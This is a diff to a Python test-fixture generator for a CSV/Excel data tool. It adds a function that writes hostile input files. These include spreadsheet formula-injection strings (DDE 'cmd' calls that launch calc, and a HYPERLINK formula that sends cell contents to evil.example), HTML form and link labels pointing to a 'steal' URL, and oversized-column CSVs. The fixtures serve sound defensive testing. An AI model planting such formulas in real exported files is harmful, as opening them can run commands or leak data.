@@ -1,7 +1,9 @@
 """Writes the small bad-input files of this folder (run once; the files are committed). The big ones (a 100 MB
-file, a single 5 MB text) are made at test time by tests/test_bad_inputs.py, never committed.
+file, a single 5 MB text; the quadratic CSV, the 100,000-column CSV and the .xlsx bomb of issue 17) are made at test
+time by tests/test_bad_inputs.py and tests/test_hostile_input.py, never committed.
 
-    python tests/bad_inputs/make.py
+    python tests/bad_inputs/make.py             # every file
+    python tests/bad_inputs/make.py hostile     # only the hostile-input files (issue 17)
 """
 
 from __future__ import annotations
@@ -70,6 +72,23 @@ def main() -> None:
     (HERE / "test_unseen_labels.csv").write_text(
         csv_text([(f"another text {i}", ["eggs", "bacon"][i % 2]) for i in range(10)]), encoding="utf-8")
     _excel(HERE / "sheets_merged.xlsx")
+    hostile()
+
+
+def hostile() -> None:
+    """Small files of hostile or careless content (issue 17): formulas, HTML and Markdown in texts and labels, a
+    one-line CSV of quoted fields, a CSV of 1,001 columns."""
+    formulas = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+                "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "-1", "a plain text"]
+    (HERE / "formula_texts.csv").write_text(csv_text([(t, "x") for t in formulas]), encoding="utf-8")
+    html_labels = ["<a href=https://evil.example>click</a>", "<form action=https://evil.example/steal>",
+                   "**bold** [link](https://evil.example)"]
+    labelled = [(text, html_labels[i % 3]) for i, (text, _) in enumerate(rows(30))]
+    (HERE / "html_labels.csv").write_text(csv_text(labelled), encoding="utf-8")
+    (HERE / "one_line_quotes.csv").write_text('label,text\na,"x"' + ', "x"' * 2000 + "\n", encoding="utf-8")
+    header = ["text", "label", *(f"extra_{i}" for i in range(999))]
+    wide = [(t, lab, *("0" for _ in range(999))) for t, lab in rows(3)]
+    (HERE / "1001_columns.csv").write_text(csv_text(wide, header), encoding="utf-8")
 
 
 def _excel(path: Path) -> None:
@@ -92,4 +111,6 @@ def _excel(path: Path) -> None:
 
 
 if __name__ == "__main__":
-    main()
+    import sys
+
+    hostile() if sys.argv[1:] == ["hostile"] else main()
